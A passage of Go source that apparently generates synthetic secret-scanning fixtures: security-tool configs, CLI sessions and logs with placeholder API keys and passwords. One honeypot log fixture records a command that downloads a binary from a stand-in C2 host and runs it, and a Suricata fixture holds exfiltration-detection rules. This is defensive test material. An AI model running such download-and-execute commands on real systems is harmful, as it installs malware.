$ curl -s -X POST "https://acme-soc.tines.com/webhook/«_path»/«a»" \
    -H 'Content-Type: application/json' \
    -d '{"source":"guardduty","finding_id":"«_f»","severity":8.0}'
{"status":"ok"}
`, V{"_path": g.hex(32), "a": g.hex(32), "_f": g.hex(32)}, "acme-soc.tines.com/webhook/")

	g.add("secops/tines-credential-story-export", `
{
  "schema_version": 18,
  "standard_lib_version": 62,
  "name": "Enrich GuardDuty findings",
  "agents": [
    {"type": "Agents::HTTPRequestAgent", "name": "Query GreyNoise",
     "options": {"url": "https://api.greynoise.io/v3/community/<<receive_finding.body.ip>>", "method": "get",
                 "headers": {"key": "<<CREDENTIAL.greynoise>>"}}},
    {"type": "Agents::HTTPRequestAgent", "name": "Query AbuseIPDB",
     "options": {"url": "https://api.abuseipdb.com/api/v2/check", "method": "get",
                 "headers": {"Key": "«a»", "Accept": "application/json"},
                 "payload": {"ipAddress": "<<receive_finding.body.ip>>", "maxAgeInDays": "90"}}}
  ]
}
`, V{"a": g.hex(80)}, "<<CREDENTIAL.greynoise>>", "Enrich GuardDuty findings")

	g.add("secops/tines-api-key-curl", `
$ curl -s https://acme-soc.tines.com/api/v1/stories?team_id=«=team» \
    -H "Authorization: Bearer «a»" | jq -r '.stories[] | [.id, .name] | @tsv'
«=s1»	Enrich GuardDuty findings
«=s2»	Phishing mailbox triage
`, V{"=team": fmt.Sprint(1000 + g.r.IntN(9000)), "a": g.an(40), "=s1": fmt.Sprint(100000 + g.r.IntN(800000)), "=s2": fmt.Sprint(100000 + g.r.IntN(800000))}, "Phishing mailbox triage")

	g.add("secops/swimlane-turbine-token", `
# playbooks/.secrets.auto.tfvars (was meant to be git-ignored)
swimlane_url          = "https://swimlane.soc.acme.io"
swimlane_access_token = "«a»"
jira_user             = "soc-bot@acme.io"
jira_api_token        = "«b»"
`, V{"a": g.b64u(43), "b": g.atlassian()}, "soc-bot@acme.io")

	g.add("secops/iris-dfir-api-key", `
$ cat iris-web/.env | grep -v '^#'
POSTGRES_USER=postgres
POSTGRES_PASSWORD=«a»
POSTGRES_ADMIN_USER=raptor
POSTGRES_ADMIN_PASSWORD=«b»
IRIS_SECRET_KEY=«c»
IRIS_SECURITY_PASSWORD_SALT=«d»
IRIS_ADM_PASSWORD=«e»
IRIS_ADM_API_KEY=«f»
IRIS_ADM_EMAIL=soc-admin@acme.io
`, V{"a": g.pwURL(), "b": g.pwURL(), "c": g.an(40), "d": g.an(32), "e": g.pwStrong(), "f": g.b64u(64)}, "POSTGRES_ADMIN_USER=raptor")
}

// ---- threat intelligence ----

func (g *G) sopIntel() {
	g.add("secops/pymisp-keys-py", `
# examples/keys.py (PyMISP)
misp_url = 'https://misp.soc.acme.io/'
misp_key = '«a»'  # The MISP auth key can be found on the MISP web interface under the automation section
misp_verifycert = True
misp_client_cert = ''
`, V{"a": g.an(40)}, "https://misp.soc.acme.io/")

	g.add("secops/misp-curl-restsearch", `
$ curl -s -H "Authorization: «a»" -H "Accept: application/json" -H "Content-Type: application/json" \
    -X POST https://misp.soc.acme.io/attributes/restSearch \
    -d '{"returnFormat":"csv","type":["ip-dst","domain"],"tags":["tlp:amber"],"last":"7d","to_ids":1}'
uuid,event_id,category,type,value,comment,to_ids,date
«_u1»,1482,Network activity,ip-dst,«_ip»,C2 from the qakbot report,1,1726012800
«_u2»,1482,Network activity,domain,«_d»,,1,1726012800
`, V{"a": g.an(40), "_u1": g.uuid(), "_ip": g.sopIP(), "_u2": g.uuid(), "_d": g.sopDomain()}, "C2 from the qakbot report", "tlp:amber")

	g.add("secops/misp-docker-env", `
# misp-docker/.env
BASE_URL=https://misp.soc.acme.io
ADMIN_EMAIL=admin@acme.io
ADMIN_PASSWORD=«a»
ADMIN_KEY=«b»
ADMIN_ORG=ACME-SOC
MYSQL_PASSWORD=«c»
MYSQL_ROOT_PASSWORD=«d»
REDIS_PASSWORD=
ENCRYPTION_KEY=«e»
`, V{"a": g.pw(), "b": g.an(40), "c": g.pwURL(), "d": g.pwURL(), "e": g.an(32)}, "ADMIN_ORG=ACME-SOC")

	g.add("secops/opencti-docker-compose", `
services:
  opencti:
    image: opencti/platform:6.3.1
    environment:
      - NODE_OPTIONS=--max-old-space-size=8096
      - APP__PORT=8080
      - APP__BASE_URL=https://cti.soc.acme.io
      - APP__ADMIN__EMAIL=cti-admin@acme.io
      - APP__ADMIN__PASSWORD=«a»
      - APP__ADMIN__TOKEN=«b»
      - REDIS__HOSTNAME=redis
      - ELASTICSEARCH__URL=http://elasticsearch:9200
      - MINIO__ACCESS_KEY=opencti
      - MINIO__SECRET_KEY=«c»
      - RABBITMQ__USERNAME=opencti
      - RABBITMQ__PASSWORD=«d»
  connector-mitre:
    image: opencti/connector-mitre:6.3.1
    environment:
      - OPENCTI_URL=http://opencti:8080
      - OPENCTI_TOKEN=«b»
      - CONNECTOR_ID=«_cid»
`, V{"a": g.pw(), "b": g.uuid(), "c": g.pwURL(), "d": g.pwURL(), "_cid": g.uuid()}, "opencti/connector-mitre:6.3.1", "MINIO__ACCESS_KEY=opencti")

	g.add("secops/opencti-pycti-client", `
from pycti import OpenCTIApiClient

api = OpenCTIApiClient("https://cti.soc.acme.io", "«a»")
obs = api.stix_cyber_observable.read(filters={
    "mode": "and",
    "filters": [{"key": "value", "values": ["«_h»"]}],
    "filterGroups": [],
})
print(obs["id"] if obs else "not found")  # e.g. file--«_sid»
`, V{"a": g.uuid(), "_h": g.sopSHA256(), "_sid": g.uuid()}, "stix_cyber_observable")

	g.add("secops/vt-cli-init-and-file", `
$ vt init
Enter your VirusTotal API key: «a»
$ vt file «_h» --include=meaningful_name,last_analysis_stats,type_tag
- _id: "«_h»"
  _type: "file"
  last_analysis_stats:
    harmless: 0
    malicious: 54
    suspicious: 0
    undetected: 17
  meaningful_name: "Invoice_0923.pdf.exe"
  type_tag: "peexe"
`, V{"a": g.hex(64), "_h": g.sopSHA256()}, "Invoice_0923.pdf.exe")

	g.add("secops/vt-toml-config", `
$ cat ~/.vt.toml
apikey="«a»"
format="yaml"
`, V{"a": g.hex(64)}, "format=\"yaml\"")

	g.add("secops/vt-python-enrich-with-hashes", `
import vt

client = vt.Client("«a»")
for h in [
    "«_h1»",
    "«_h2»",
    "«_h3»",
]:
    f = client.get_object(f"/files/{h}")
    print(h, f.last_analysis_stats["malicious"], f.get("popular_threat_classification", {}).get("suggested_threat_label"))
client.close()
`, V{"a": g.hex(64), "_h1": g.sopSHA256(), "_h2": g.sopSHA256(), "_h3": g.sopSHA256()}, "popular_threat_classification")

	g.add("secops/shodan-init-and-host", `
$ shodan init «a»
Successfully initialized
$ shodan host «_ip»
«_ip»
Hostnames:               vpn.acme-partner.com
Country:                 Netherlands
Organization:            Example Hosting B.V.
Updated:                 2024-09-11T04:21:17.612319
Number of open ports:    3

Ports:
     22/tcp OpenSSH (8.9p1 Ubuntu-3ubuntu0.10)
    443/tcp
        |-- SSL Versions: -SSLv2, -SSLv3, -TLSv1, -TLSv1.1, TLSv1.2, TLSv1.3
  10443/tcp FortiGate SSL VPN
`, V{"a": g.an(32), "_ip": g.sopIP()}, "vpn.acme-partner.com", "FortiGate SSL VPN")

	g.add("secops/shodan-api-key-file-and-python", `
$ cat ~/.config/shodan/api_key
«a»
$ python3 - <<'PY'
import shodan
api = shodan.Shodan(open("/home/ana/.config/shodan/api_key").read().strip())
for r in api.search('ssl.cert.subject.cn:"acme.io" port:3389')["matches"]:
    print(r["ip_str"], r["port"])
PY
«_ip» 3389
`, V{"a": g.an(32), "_ip": g.sopIP()}, "ssl.cert.subject.cn:\"acme.io\" port:3389")

	g.add("secops/censys-config-cli", `
$ censys config
Censys API ID: «_id»
Censys API Secret: «a»
Do you want color output? [y/n]: y
Successfully authenticated for ana@acme.io
$ censys search 'services.tls.certificates.leaf_data.subject.common_name: "*.acme.io"' --index-type hosts | jq -r '.[].ip'
«_ip»
`, V{"_id": g.uuid(), "a": g.an(32), "_ip": g.sopIP()}, "Successfully authenticated for ana@acme.io")

	g.add("secops/censys-env-and-requests", `
CENSYS_API_ID=«_id»
CENSYS_API_SECRET=«a»

r = requests.get("https://search.censys.io/api/v2/hosts/«_ip»", auth=(os.environ["CENSYS_API_ID"], os.environ["CENSYS_API_SECRET"]))
`, V{"_id": g.uuid(), "a": g.an(32), "_ip": g.sopIP()}, "search.censys.io/api/v2/hosts/")

	g.add("secops/greynoise-setup-and-quick", `
$ greynoise setup --api-key «a»
Configuration saved to '/home/ana/.config/greynoise/config'
$ greynoise quick «_ip1» «_ip2»
«_ip1» is classified as NOT NOISE.
«_ip2» is classified as NOISE.
`, V{"a": g.an(64), "_ip1": g.sopIP(), "_ip2": g.sopIP()}, "is classified as NOT NOISE.")

	g.add("secops/abuseipdb-check-curl", `
$ curl -sG https://api.abuseipdb.com/api/v2/check \
    --data-urlencode "ipAddress=«_ip»" -d maxAgeInDays=90 -d verbose \
    -H "Key: «a»" -H "Accept: application/json" | jq '.data | {ipAddress, abuseConfidenceScore, isp, totalReports}'
{
  "ipAddress": "«_ip»",
  "abuseConfidenceScore": 100,
  "isp": "Example Hosting B.V.",
  "totalReports": 1873
}
`, V{"_ip": g.sopIP(), "a": g.hex(80)}, "abuseConfidenceScore")

	g.add("secops/urlscan-submit", `
$ curl -s -X POST "https://urlscan.io/api/v1/scan/" \
    -H "Content-Type: application/json" -H "API-Key: «a»" \
    -d '{"url": "https://«_d»/o365/login.php", "visibility": "unlisted", "tags": ["phishing", "IR-2291"]}'
{
  "message": "Submission successful",
  "uuid": "«_u»",
  "result": "https://urlscan.io/result/«_u»/",
  "api": "https://urlscan.io/api/v1/result/«_u»/",
  "visibility": "unlisted"
}
`, V{"a": g.uuid(), "_d": g.sopDomain(), "_u": g.uuid()}, "Submission successful")

	g.add("secops/otx-pulse-python", `
from OTXv2 import OTXv2, IndicatorTypes

otx = OTXv2("«a»", server="https://otx.alienvault.com/")
details = otx.get_indicator_details_full(IndicatorTypes.FILE_HASH_SHA256, "«_h»")
print(details["general"]["pulse_info"]["count"], "pulses")
`, V{"a": g.hex(64), "_h": g.sopSHA256()}, "IndicatorTypes.FILE_HASH_SHA256")

	g.add("secops/otx-header-curl", `
$ curl -s -H "X-OTX-API-KEY: «a»" https://otx.alienvault.com/api/v1/indicators/domain/«_d»/general | jq '.pulse_info.count'
7
`, V{"a": g.hex(64), "_d": g.sopDomain()}, "X-OTX-API-KEY")

	g.add("secops/intelowl-env-app", `
# IntelOwl docker/env_file_app
DJANGO_SECRET=«a»
DB_PASSWORD=«b»
HYBRID_ANALYSIS_API_KEY=«c»
SHODAN_KEY=«d»
ABUSEIPDB_KEY=«e»
GREYNOISE_API_KEY=
OTX_KEY=
MALWARE_BAZAAR_KEY=«f»
`, V{"a": g.s(alDjango, 50), "b": g.pwURL(), "c": g.an(64), "d": g.an(32), "e": g.hex(80), "f": g.hex(48)}, "GREYNOISE_API_KEY=", "docker/env_file_app")

	g.add("secops/threatfox-abusech-auth-key", `
$ curl -s -X POST https://threatfox-api.abuse.ch/api/v1/ \
    -H "Auth-Key: «a»" \
    -d '{ "query": "search_ioc", "search_term": "«_ip»:443" }' | jq '.data[0] | {ioc, malware_printable, confidence_level}'
{
  "ioc": "«_ip»:443",
  "malware_printable": "Cobalt Strike",
  "confidence_level": 100
}
`, V{"a": g.hex(48), "_ip": g.sopIP()}, "malware_printable")

	g.add("secops/virustotal-livehunt-notification-benign", `
From: VirusTotal <noreply@virustotal.com>
Subject: [VT Hunting] acme_lookalike_loader matched 2 files

Ruleset: acme_lookalike_loader
  «_h1»  (first seen 2024-09-11 02:14:55, 12/71)
  «_h2»  (first seen 2024-09-11 06:40:12, 31/72)
View: https://www.virustotal.com/gui/hunting-notification-files?ruleset=«_rs»
`, V{"_h1": g.sopSHA256(), "_h2": g.sopSHA256(), "_rs": g.digits(16)}, "acme_lookalike_loader")
}

// ---- vulnerability scanners ----

func (g *G) sopVuln() {
	g.add("secops/tenable-x-apikeys-curl", `
$ curl -s -H "X-ApiKeys: accessKey=«_ak»;secretKey=«a»" -H "accept: application/json" \
    "https://cloud.tenable.com/workbenches/vulnerabilities?filter.0.filter=severity&filter.0.quality=eq&filter.0.value=Critical" | jq '.total_vulnerability_count'
412
`, V{"_ak": g.hex(64), "a": g.hex(64)}, "cloud.tenable.com/workbenches/vulnerabilities")

	g.add("secops/pytenable-script", `
from tenable.io import TenableIO

tio = TenableIO(
    access_key="«ak»",
    secret_key="«a»",
    vendor="ACME SOC", product="vuln-sync", build="1.4.0",
)
for vuln in tio.exports.vulns(severity=["critical", "high"], since=1725148800):
    print(vuln["asset"]["hostname"], vuln["plugin"]["id"], vuln["plugin"]["cve"])
`, V{"ak": g.hex(64), "a": g.hex(64)}, "vuln-sync")

	g.add("secops/nessus-agent-link", `
$ sudo /opt/nessus_agent/sbin/nessuscli agent link --key=«a» --groups="Linux Servers" --cloud
[info] [agent] Successfully linked to cloud.tenable.com:443
$ sudo /opt/nessus_agent/sbin/nessuscli agent status
Running: Yes
Linked to: cloud.tenable.com:443
Link status: Connected to cloud.tenable.com:443
Last successful connection with controller: 4 secs ago
Proxy: None
Plugin set: «_ps»
`, V{"a": g.hex(64), "_ps": g.digits(12)}, "Linked to: cloud.tenable.com:443")

	g.add("secops/nessus-pro-api-keys-python", `
NESSUS_URL = "https://nessus01.soc.acme.internal:8834"
ACCESS_KEY = "«ak»"
SECRET_KEY = "«a»"

headers = {"X-ApiKeys": f"accessKey={ACCESS_KEY}; secretKey={SECRET_KEY}"}
scans = requests.get(f"{NESSUS_URL}/scans", headers=headers, verify=False).json()["scans"]
for s in scans:
    print(s["id"], s["name"], s["status"])
`, V{"ak": g.hex(64), "a": g.hex(64)}, "nessus01.soc.acme.internal:8834")

	g.add("secops/qualys-curl-basic-auth", `
$ curl -s -H "X-Requested-With: curl" -u "acmes3ap:«a»" \
    "https://qualysapi.qg2.apps.qualys.com/api/2.0/fo/scan/?action=list&state=Finished&launched_after_datetime=2024-09-01"
<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE SCAN_LIST_OUTPUT SYSTEM "https://qualysapi.qg2.apps.qualys.com/api/2.0/fo/scan/scan_list_output.dtd">
<SCAN_LIST_OUTPUT>
  <RESPONSE>
    <SCAN_LIST>
      <SCAN><REF>scan/1725958832.«=ref»</REF><TITLE><![CDATA[DMZ weekly]]></TITLE></SCAN>
`, V{"a": g.pw(), "=ref": g.digits(5)}, "acmes3ap", "qualysapi.qg2.apps.qualys.com")

	g.add("secops/qualys-qcrc-config", `
$ cat ~/.qcrc
[info]
hostname = qualysapi.qg2.apps.qualys.com
username = acmes3ap
password = «a»
max_retries = 10

[proxy]
; empty
`, V{"a": g.pwStrong()}, "max_retries = 10")

	g.add("secops/rapid7-insightvm-console-api", `
$ curl -sk -u 'svc_vm_report:«a»' https://ivm-console.soc.acme.internal:3780/api/3/sites | jq -r '.resources[] | [.id, .name, .riskScore] | @tsv'
12	DMZ	384210.5
14	Datacenter-East	1920341.0
`, V{"a": g.pw()}, "ivm-console.soc.acme.internal:3780", "svc_vm_report")

	g.add("secops/rapid7-insight-agent-install-token", `
$ sudo ./agent_installer-x86_64.sh install_start --token us:«a» --attributes "prod,linux,payments"
Rapid7 Insight Agent installer
Agent installed successfully, and the service was started.
$ sudo cat /opt/rapid7/ir_agent/components/bootstrap/common/bootstrap.cfg | jq '{region, agent_id}'
{
  "region": "us",
  "agent_id": "«_aid»"
}
`, V{"a": g.uuid(), "_aid": g.hex(32)}, "Agent installed successfully, and the service was started.")

	g.add("secops/rapid7-platform-api-key-graphql", `
$ curl -s https://us.api.insight.rapid7.com/graphql \
    -H "X-Api-Key: «a»" -H "Content-Type: application/json" \
    -d '{"query":"{ organization(id: \"«_org»\") { assets(first: 3) { edges { node { id host { primaryAddress { ip } } } } } } }"}'
`, V{"a": g.uuid(), "_org": g.uuid()}, "us.api.insight.rapid7.com/graphql")

	g.add("secops/gvm-cli-gmp-password", `
$ gvm-cli --gmp-username admin --gmp-password '«a»' socket --socketpath /run/gvmd/gvmd.sock --xml "<get_tasks filter='rows=5'/>" | xmllint --format - | grep -E '<name>|<status>'
    <name>DMZ full and fast</name>
    <status>Done</status>
$ sudo -u _gvm gvmd --user=admin --new-password='«b»'
`, V{"a": g.pw(), "b": g.pwStrong()}, "/run/gvmd/gvmd.sock", "DMZ full and fast")

	g.add("secops/openvas-greenbone-compose-env", `
# greenbone-community-container/.env
GVMD_ADMIN_PASSWORD=«a»
POSTGRES_PASSWORD=«b»
GSA_PORT=9392
FEED_RELEASE=24.10
`, V{"a": g.pwURL(), "b": g.pwURL()}, "FEED_RELEASE=24.10")

	g.add("secops/defectdojo-reimport-token", `
$ curl -s -X POST https://defectdojo.soc.acme.io/api/v2/reimport-scan/ \
    -H "Authorization: Token «a»" \
    -F "scan_type=Tenable Scan" -F "engagement=«=eng»" -F "file=@tenable-export.csv" -F "close_old_findings=true"
{"scan_date":"2024-09-12","minimum_severity":"Info","active":true,"verified":false,"test":«=t»,"engagement":«=eng»,"product_id":14}
`, V{"a": g.hex(40), "=eng": fmt.Sprint(100 + g.r.IntN(900)), "=t": fmt.Sprint(1000 + g.r.IntN(9000))}, "close_old_findings=true")
}

// ---- identity threat tooling ----

func (g *G) sopIdentity() {
	g.add("secops/okta-systemlog-python", `
#!/usr/bin/env python3
# okta_mfa_fatigue.py: find users with > 5 push denials in 10 minutes
import requests, collections

OKTA_ORG = "https://acme.okta.com"
OKTA_TOKEN = "«a»"

s = requests.Session()
s.headers.update({"Authorization": f"SSWS {OKTA_TOKEN}", "Accept": "application/json"})
url = f"{OKTA_ORG}/api/v1/logs?filter=eventType+eq+%22user.mfa.okta_verify.deny_push%22&since=2024-09-11T00:00:00Z"
denials = collections.Counter(e["actor"]["alternateId"] for e in s.get(url).json())
`, V{"a": g.okta()}, "okta_mfa_fatigue.py", "user.mfa.okta_verify.deny_push")

	g.add("secops/okta-curl-clear-sessions", `
$ curl -s -X DELETE -H "Authorization: SSWS «a»" \
    "https://acme.okta.com/api/v1/users/«_uid»/sessions?oauthTokens=true" -w '%{http_code}\n'
204
$ curl -s -H "Authorization: SSWS «a»" "https://acme.okta.com/api/v1/users/«_uid»" | jq '{id, status, lastLogin}'
{
  "id": "«_uid»",
  "status": "ACTIVE",
  "lastLogin": "2024-09-12T07:58:41.000Z"
}
`, V{"a": g.okta(), "_uid": "00u" + g.an(17)}, "oauthTokens=true")

	g.add("secops/entra-revoke-sessions-graph", `
PS> $secret = ConvertTo-SecureString '«a»' -AsPlainText -Force
PS> $cred = New-Object System.Management.Automation.PSCredential('«_app»', $secret)
PS> Connect-MgGraph -TenantId «_t» -ClientSecretCredential $cred -NoWelcome
PS> Revoke-MgUserSignInSession -UserId «_u»
Value
-----
True
`, V{"a": g.azSecret(), "_app": g.uuid(), "_t": g.uuid(), "_u": g.uuid()}, "Revoke-MgUserSignInSession")

	g.add("secops/entra-app-credential-add-output", `
$ az ad app credential reset --id «_app» --display-name "sentinel-playbook-2024-09" --years 1
The output includes credentials that you must protect. Be sure that you do not include these credentials in your code or check the credentials into your source control.
{
  "appId": "«_app»",
  "password": "«a»",
  "tenant": "«_t»"
}
`, V{"_app": g.uuid(), "a": g.azSecret(), "_t": g.uuid()}, "sentinel-playbook-2024-09")

	g.add("secops/duo-admin-api-ini", `
# /etc/duo-logsync/config.yml
duoclient:
  skey: «a»
  ikey: «_ikey»
  host: api-«_h».duosecurity.com
logs:
  logDir: "/var/log/duologsync"
  endpoints:
    enabled: ["auth", "telephony", "adminaction", "trustmonitor"]
transports:
  - protocol: TCPSSL
    host: siem-collector.soc.acme.internal
    port: 6514
`, V{"a": g.an(40), "_ikey": "DI" + g.s(alUpNum, 18), "_h": g.hex(8)}, "trustmonitor", "siem-collector.soc.acme.internal")

	g.add("secops/okta-hook-verification-and-token-tf", `
resource "okta_event_hook" "suspicious_activity" {
  name   = "soar-suspicious-activity"
  status = "ACTIVE"
  events = ["user.account.report_suspicious_activity_by_enduser", "security.threat.detected"]
  channel = {
    type    = "HTTP"
    version = "1.0.0"
    uri     = "https://soar.soc.acme.io/hooks/okta"
  }
  auth = {
    type  = "HEADER"
    key   = "X-Okta-Hook-Secret"
    value = "«a»"
  }
}
provider "okta" {
  org_name  = "acme"
  base_url  = "okta.com"
  api_token = "«b»"
}
`, V{"a": g.b64u(32), "b": g.okta()}, "security.threat.detected", "X-Okta-Hook-Secret")

	g.add("secops/bloodhound-ce-api-token-benign-ids", `
$ cat ~/.config/bhe/credentials
[default]
url = https://bloodhound.soc.acme.internal
token_id = «_tid»
token_key = «a»
`, V{"_tid": g.uuid(), "a": g.b64(60)}, "bloodhound.soc.acme.internal")

	g.add("secops/ping-identity-risk-client", `
PINGONE_ENV_ID=«_env»
PINGONE_CLIENT_ID=«_cid»
PINGONE_CLIENT_SECRET=«a»
PINGONE_REGION=NA
`, V{"_env": g.uuid(), "_cid": g.uuid(), "a": g.s(alAlnum+"-_.~", 64)}, "PINGONE_REGION=NA")
}

// ---- honeypots and canaries ----

func (g *G) sopHoney() {
	g.add("secops/thinkst-canary-api-alerts", `
$ curl -s "https://«_console».canary.tools/api/v1/incidents/unacknowledged?auth_token=«a»" | jq -r '.incidents[].description | [.description, .src_host, .dst_host] | @tsv'
SMB File Opened	«_src»	fs-finance-canary
Canarytoken triggered	«_ip»	aws-api-key-token
`, V{"_console": g.hex(8), "a": g.hex(32), "_src": g.sopLAN(), "_ip": g.sopIP()}, "fs-finance-canary")

	g.add("secops/thinkst-canary-factory-python", `
import canarytools

console = canarytools.Console(domain="«_console»", api_key="«a»")
factory = console.tokens.factory(factory_auth="«b»")
token = factory.create(memo="decoy creds in finance share", kind=canarytools.CanaryTokenKinds.AWS_API_KEY)
print(token.access_key_id)
`, V{"_console": g.hex(8), "a": g.hex(32), "b": g.hex(32)}, "decoy creds in finance share")

	g.add("secops/canarytoken-aws-key-planted", `
# Planted on fs-finance-01 as \\fs-finance-01\finance$\IT\aws_backup_creds.txt (Canarytoken memo: "finance share decoy")
[default]
aws_access_key_id = «a»
aws_secret_access_key = «b»
output = json
region = us-east-2
`, V{"a": g.awsID(), "b": g.awsSecret()}, "finance share decoy")

	g.add("secops/canarytoken-dns-and-url-benign", `
Decoys deployed this sprint:
- DNS token in the HR wiki "VPN setup" page: «=dns».canarytokens.com
- Web bug in the M&A folder: http://canarytokens.com/terms/about/«=w»/index.html
- Word doc token: "Q3-layoffs-DRAFT.docx" (memo: "HR share decoy")
Alerts go to #soc-canaries.
`, V{"=dns": g.s(alLowNum, 25), "=w": g.s(alLowNum, 25)}, "#soc-canaries", "Q3-layoffs-DRAFT.docx")

	g.add("secops/opencanary-conf", `
$ cat /etc/opencanaryd/opencanary.conf
{
    "device.node_id": "opencanary-dmz-1",
    "ip.ignorelist": [],
    "logger": {
        "class": "PyLogger",
        "kwargs": {
            "handlers": {
                "SMTP": {
                    "class": "logging.handlers.SMTPHandler",
                    "mailhost": ["smtp.office365.com", 587],
                    "fromaddr": "canary@acme.io",
                    "toaddrs": ["soc@acme.io"],
                    "subject": "OpenCanary Alert",
                    "credentials": ["canary@acme.io", "«a»"],
                    "secure": []
                }
            }
        }
    },
    "ssh.enabled": true,
    "ssh.port": 22,
    "ssh.version": "SSH-2.0-OpenSSH_5.1p1 Debian-4",
    "http.enabled": true,
    "http.skin": "nasLogin"
}
`, V{"a": g.pw()}, "opencanary-dmz-1", "SSH-2.0-OpenSSH_5.1p1 Debian-4")

	g.add("secops/cowrie-log-attacker-guesses-benign", `
2024-09-12T03:14:07.118722Z [HoneyPotSSHTransport,4411,«_ip»] login attempt [b'root'/b'Passw0rd2024!'] failed
2024-09-12T03:14:09.512014Z [HoneyPotSSHTransport,4411,«_ip»] login attempt [b'admin'/b'admin@12345'] failed
2024-09-12T03:14:12.007345Z [HoneyPotSSHTransport,4411,«_ip»] login attempt [b'ubnt'/b'ubnt123456'] succeeded
2024-09-12T03:14:13.221908Z [HoneyPotSSHTransport,4411,«_ip»] CMD: cd /tmp; wget http://«_c2»/bins/x86; chmod +x x86; ./x86 ubnt
`, V{"_ip": g.sopIP(), "_c2": g.sopIP()}, "Passw0rd2024!", "admin@12345", "ubnt123456")

	g.add("secops/cowrie-userdb-benign", `
$ cat etc/userdb.txt
# Cowrie user database: the credentials attackers are let in with.
root:x:!root
root:x:!123456
root:x:*
tomcat:x:*
oracle:x:*
`, nil, "root:x:!root", "tomcat:x:*")

	g.add("secops/tpot-config-web-user", `
$ cat ~/tpotce/.env | head -12
# T-Pot config file. Do not remove.
TPOT_BLACKHOLE=DISABLED
TPOT_PERSISTENCE=on
TPOT_ATTACK_MAP_TEXT=ENABLED
TPOT_ATTACK_MAP_TEXT_TIMEZONE=UTC
# Web user for nginx (htpasswd base64)
WEB_USER=«a»
TPOT_HIVE_USER=
TPOT_TYPE=HIVE
`, V{"a": b64s("socadmin:$apr1$" + g.s(alAlnum, 8) + "$" + g.s(alAlnum+"./", 22))}, "TPOT_ATTACK_MAP_TEXT=ENABLED")

	g.add("secops/honeypot-elk-gateway-beat-creds", `
# honeynet/filebeat.yml on dmz-hp-02 (ships to the central stack)
output.logstash:
  hosts: ["hp-collector.soc.acme.io:5044"]
  ssl.certificate: /etc/filebeat/hp.crt
  ssl.key: /etc/filebeat/hp.key
  ssl.key_passphrase: «a»
`, V{"a": g.pwURL()}, "hp-collector.soc.acme.io:5044")
}

// ---- network security monitoring ----

func (g *G) sopNSM() {
	user, pass := "jenkins-deploy", g.pw()
	g.add("secops/suricata-eve-http-basic-auth", `
$ jq -c 'select(.event_type=="http" and .http.hostname=="legacy-nas.corp.acme.internal")' /var/log/suricata/eve.json | head -1
{"timestamp":"2024-09-12T08:02:11.412311+0000","flow_id":«_flow»,"in_iface":"ens4","event_type":"http","src_ip":"«_src»","src_port":51544,"dest_ip":"«_dst»","dest_port":80,"proto":"TCP","http":{"hostname":"legacy-nas.corp.acme.internal","url":"/cgi-bin/login.cgi","http_user_agent":"curl/7.81.0","http_method":"GET","protocol":"HTTP/1.1","status":200,"request_headers":[{"name":"Authorization","value":"Basic «a»"}],"length":1132}}
`, V{"_flow": g.digits(16), "_src": g.sopLAN(), "_dst": g.sopLAN(), "a": b64s(user + ":" + pass)}, "legacy-nas.corp.acme.internal")

	g.add("secops/zeek-http-log-password-column", `
$ zeek-cut ts uid id.orig_h host uri username password < http.log | grep -v '^-' | head -3
1726128131.412311	C«_uid1»	«_src»	printer-3f.corp.acme.internal	/login.html	admin	«a»
1726128177.090033	C«_uid2»	«_src2»	legacy-nas.corp.acme.internal	/cgi-bin/login.cgi	jenkins-deploy	«b»
`, V{"_uid1": g.an(17), "_src": g.sopLAN(), "a": g.pw(), "_uid2": g.an(17), "_src2": g.sopLAN(), "b": g.pw()}, "printer-3f.corp.acme.internal")

	g.add("secops/zeek-ftp-log", `
#fields	ts	uid	id.orig_h	id.orig_p	id.resp_h	id.resp_p	user	password	command	arg	mime_type	file_size	reply_code	reply_msg
1726131004.118200	C«_uid»	«_src»	49812	«_dst»	21	scanner-upload	«a»	STOR	ftp://«_dst»/./scan_0912.pdf	application/pdf	84211	226	Transfer complete.
`, V{"_uid": g.an(17), "_src": g.sopLAN(), "_dst": g.sopLAN(), "a": g.pw()}, "scanner-upload", "Transfer complete.")

	g.add("secops/arkime-config-ini", `
# /opt/arkime/etc/config.ini
[default]
elasticsearch=https://arkime:«a»@os01.nsm.acme.internal:9200
rotateIndex=daily
passwordSecret = «b»
serverSecret = «c»
httpRealm = Moloch
interface=ens4;ens5
pcapDir = /data/pcap
maxFileSizeG = 12
`, V{"a": g.pwURL(), "b": g.pwStrong(), "c": g.pwStrong()}, "interface=ens4;ens5", "httpRealm = Moloch")

	g.add("secops/suricata-rules-benign", `
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ACME Possible AWS key exfil in URI"; flow:established,to_server; http.uri; pcre:"/AKIA[0-9A-Z]{16}/"; classtype:policy-violation; sid:9000101; rev:3;)
alert dns $HOME_NET any -> any any (msg:"ACME DNS query to Canarytokens"; dns.query; content:".canarytokens.com"; endswith; sid:9000102; rev:1;)
alert tls any any -> $HOME_NET any (msg:"ACME JA3S Cobalt Strike default"; ja3s.hash; content:"«_ja3s»"; sid:9000103; rev:1;)
`, V{"_ja3s": g.sopMD5()}, "pcre:\"/AKIA[0-9A-Z]{16}/\"", "sid:9000101")

	g.add("secops/zeek-intel-file-benign", `
#fields	indicator	indicator_type	meta.source	meta.desc	meta.do_notice
«_ip»	Intel::ADDR	misp-1482	qakbot C2	T
«_d»	Intel::DOMAIN	misp-1482	qakbot stage-1	T
«_h»	Intel::FILE_HASH	misp-1482	qakbot dll	T
«_j»	Intel::JA3	abuse.ch	cobalt strike beacon	F
`, V{"_ip": g.sopIP(), "_d": g.sopDomain(), "_h": g.sopSHA1(), "_j": g.sopMD5()}, "Intel::FILE_HASH")

	g.add("secops/security-onion-so-user-and-salt-pillar", `
$ sudo so-user add --email ana@acme.io --role analyst
Enter new password: 
User added: ana@acme.io
$ sudo cat /opt/so/saltstack/local/pillar/secrets.sls
secrets:
  import_pass: «a»
  influx_pass: «b»
  playbook_admin: «c»
  playbook_automation: «d»
`, V{"a": g.an(20), "b": g.an(20), "c": g.an(20), "d": g.an(20)}, "/opt/so/saltstack/local/pillar/secrets.sls")

	g.add("secops/tshark-snmp-trap-benign-oid", `
$ tshark -r mirror-port.pcap -Y snmp -T fields -e ip.src -e snmp.community -e snmp.name | head -3
«_a»	public	1.3.6.1.2.1.1.3.0
«_a»	public	1.3.6.1.6.3.1.1.4.1.0
«_b»	«x»	1.3.6.1.4.1.9.9.41.1.2.3.1.5
